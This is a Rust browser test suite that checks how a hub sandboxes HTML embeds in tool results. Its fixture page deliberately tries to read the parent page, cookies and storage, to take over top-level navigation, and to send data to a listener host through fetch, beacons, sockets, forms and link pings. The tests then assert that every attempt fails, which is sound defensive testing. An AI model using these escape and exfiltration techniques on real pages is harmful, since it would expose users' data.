//! Pages of HTML that came with a result, with their scripts: they run on a click, and reach nothing.

use serde_json::json;
use tests::browser::DESKTOP;
use tests::relay::CuttableRelay;
use tests::{BrowserPage, ScriptedServer, ServerStep};

use crate::scene::{OPENING, hub_and_publisher};
use crate::screens::{PicturedView, pictured};

/// An embed that says what it is, and what came of everything that it tried; `HERE` stands for somebody who listens.
const PRYING: &str = r#"<!doctype html><html><head><title>Prying</title></head><body>
<h1 id="said">still</h1><canvas width="60" height="40"></canvas><ul id="came"></ul>
<script>
const came = {};
const attempt = (name, act) => { try { const it = act(); came[name] = it === undefined ? 'quiet' : String(it) } catch (error) { came[name] = error.name } };
const add = (name, fields) => { const made = Object.assign(document.createElement(name), fields); document.body.append(made); return made };
document.getElementById('said').textContent = 'alive';
document.querySelector('canvas').getContext('2d').fillRect(5, 5, 50, 30);
attempt('parent', () => parent.document.title);
attempt('storage', () => localStorage.length);
attempt('cookies', () => document.cookie);
attempt('top', () => { top.location = 'http://HERE/top' });
attempt('open', () => window.open('http://HERE/open'));
attempt('image', () => { new Image().src = 'http://HERE/image' });
attempt('socket', () => { new WebSocket('ws://HERE/socket') });
attempt('beacon', () => { navigator.sendBeacon('http://HERE/beacon', 'x') });
attempt('form', () => { add('form', {action: 'http://HERE/form', method: 'post'}).submit() });
attempt('frame', () => { add('iframe', {src: 'http://HERE/frame'}) });
attempt('inner', () => { add('iframe', {srcdoc: '<script>location = "http://HERE/inner"<\/script>'}) });
attempt('blank', () => { add('iframe', {}).contentWindow.location = 'http://HERE/blank' });
attempt('style', () => { add('link', {rel: 'stylesheet', href: 'http://HERE/style'}) });
attempt('hint', () => { add('link', {rel: 'preconnect', href: 'http://HERE/'}) });
attempt('fetched', () => { add('link', {rel: 'prefetch', href: 'http://HERE/fetched'}) });
attempt('script', () => { add('script', {src: 'http://HERE/script'}) });
attempt('ping', () => { add('a', {href: '#', ping: 'http://HERE/ping'}).click() });
attempt('tab', () => { add('a', {href: 'http://HERE/tab', target: '_blank'}).click() });
attempt('whole', () => { add('a', {href: 'http://HERE/whole', target: '_top'}).click() });
attempt('saved', () => { add('a', {href: 'http://HERE/saved', download: 'x'}).click() });
fetch('http://HERE/fetch').then(() => 'done', error => error.name).then(it => { came.fetch = it }).then(() => {
  came.said = document.getElementById('said').textContent;
  document.getElementById('came').textContent = JSON.stringify(came);
  parent.postMessage(came, '*');
});
</script></body></html>"#;

/// A hub with a call whose result has `embeds`, and the page on which it is seen.
async fn shown(address: &str, level: &str) -> BrowserPage {
    let page = BrowserPage::open(DESKTOP).await;
    page.goto(&format!("http://{address}/c/c?level={level}")).await;
    page.holds("return !!document.querySelector('[data-t=open-embed]')").await;
    page
}

async fn click(page: &BrowserPage, what: &str) {
    page.holds(&format!("return !!document.querySelector('{what}')")).await;
    page.run(&format!("document.querySelector('{what}').click()")).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn scripts_of_an_embed_run_on_a_click_alone_and_reach_nothing() {
    let listener = ScriptedServer::start(|_| {
        ServerStep::answer("200 OK", &[("access-control-allow-origin", "*")], b"heard")
    })
    .await;
    let (hub, mut publisher) = hub_and_publisher("c").await;
    let relay = CuttableRelay::open_to(hub.address()).await;
    publisher.says(OPENING).await;
    publisher.says(r#"{"k":"tool.call","run":"r","tool":"t","name":"draw","arguments":"{}"}"#).await;
    let html = PRYING.replace("HERE", &listener.address().to_string());
    let result = json!({"k": "tool.result", "run": "r", "tool": "t", "output": "done", "embeds": [html]});
    publisher.says(&result.to_string()).await;
    let page = shown(&relay.address().to_string(), "All").await;
    page.run(
        "window.told = null; window.addEventListener('message', it => { window.told = it.data; window.by = it.origin });
         localStorage.setItem('secret', 'x'); document.cookie = 'secret=x';
         document.addEventListener('load', it => { if (it.target.dataset?.t === 'embed') window.has_loaded = true }, true)",
    )
    .await;
    // First it is only seen.
    click(&page, "[data-t=open-embed]").await;
    page.holds("return window.has_loaded === true").await;
    assert_eq!(
        page.run("return [window.told, !!document.querySelector('[data-t=embed-live]')]").await,
        json!([null, false])
    );
    assert!(!relay.has_heard("GET /embed"), "the document for scripts is not even asked for");
    // Then its scripts run.
    click(&page, "[data-act=run-scripts]").await;
    let told = page.run_until("return window.told", |told| !told.is_null()).await;
    assert_eq!(page.run("return window.by").await, "null", "it has no origin");
    assert_eq!(told["said"], "alive", "they have changed its text");
    for what in ["parent", "storage", "cookies", "top"] {
        assert_eq!(told[what], "SecurityError", "{what} in {told}");
    }
    assert_eq!((&told["open"], &told["fetch"]), (&json!("null"), &json!("TypeError")), "{told}");
    let live = "document.querySelector('[data-t=embed-live]')";
    assert_eq!(
        page.run(&format!("return [{live}.getAttribute('sandbox'), {live}.contentDocument]")).await,
        json!(["allow-scripts", null])
    );
    page.screenshot("embed-prying").await;
    // Stopped, it is as before.
    click(&page, "[data-act=stop-scripts]").await;
    page.holds(
        "return !document.querySelector('[data-t=embed-live]') && !!document.querySelector('[data-t=embed]')",
    )
    .await;
    assert_eq!(page.run("return location.pathname").await, "/c/c");
    let asked: Vec<String> = listener.asked().into_iter().map(|asked| asked.start).collect();
    assert_eq!(asked, Vec::<String>::new(), "somebody heard of it");
    page.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn an_embed_that_goes_elsewhere_with_its_frame_goes_nowhere() {
    let listener = ScriptedServer::start(|_| ServerStep::answer("200 OK", &[], b"heard")).await;
    let (hub, mut publisher) = hub_and_publisher("c").await;
    publisher.says(OPENING).await;
    publisher.says(r#"{"k":"tool.call","run":"r","tool":"t","name":"draw","arguments":"{}"}"#).await;
    let html = format!(
        "<script>parent.postMessage('here', '*'); location = 'http://{}/gone'</script>",
        listener.address()
    );
    let again = "<script>parent.postMessage('again', '*'); location.reload()</script>";
    let hub_itself = "<script>parent.postMessage('hub', '*'); location = parent.location ? '/v1/conversations' : ''</script>";
    let link = format!(
        "<script>parent.postMessage('link', '*'); const a = document.createElement('a'); a.href = 'http://{}/link'; a.click()</script>",
        listener.address()
    );
    let embeds = [html.as_str(), again, hub_itself, &link];
    let result = json!({"k": "tool.result", "run": "r", "tool": "t", "output": "done", "embeds": embeds});
    publisher.says(&result.to_string()).await;
    let page = shown(&hub.address().to_string(), "All").await;
    page.run(
        "window.told = []; window.addEventListener('message', it => window.told.push(it.data));
         window.refused = []; document.addEventListener('securitypolicyviolation', it => window.refused.push(it.effectiveDirective))",
    )
    .await;
    for _ in 0..4 {
        click(&page, "[data-t=open-embed]").await;
    }
    for _ in 0..4 {
        click(&page, "[data-act=run-scripts]").await;
    }
    page.holds(
        "return window.told.length >= 4 && window.refused.filter(it => it === 'frame-src').length >= 3",
    )
    .await;
    // One that loads itself again is not given its page again.
    assert_eq!(page.run("return window.told.sort()").await, json!(["again", "here", "hub", "link"]));
    assert_eq!(listener.asked().len(), 0);
    page.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn an_embed_with_scripts_fits_every_screen_in_both_colours() {
    let (hub, mut publisher) = hub_and_publisher("c").await;
    publisher.says(OPENING).await;
    publisher.says(r#"{"k":"tool.call","run":"r","tool":"t","name":"draw","arguments":"{}"}"#).await;
    let html = "<h2 id=n>0 of 5</h2><button>Count</button><script>n.textContent = 'Ready'; parent.postMessage('ready', '*')</script>";
    let result = json!({"k": "tool.result", "run": "r", "tool": "t", "output": "done", "embeds": [html]});
    publisher.says(&result.to_string()).await;
    let page = shown(&hub.address().to_string(), "All").await;
    page.run("window.addEventListener('message', it => { window.told = it.data })").await;
    click(&page, "[data-t=open-embed]").await;
    pictured(&page, PicturedView::EmbedStill).await;
    click(&page, "[data-act=run-scripts]").await;
    page.holds("return window.told === 'ready'").await;
    pictured(&page, PicturedView::EmbedLive).await;
    assert_eq!(page.console_errors().await, Vec::<String>::new());
    page.close().await;
}
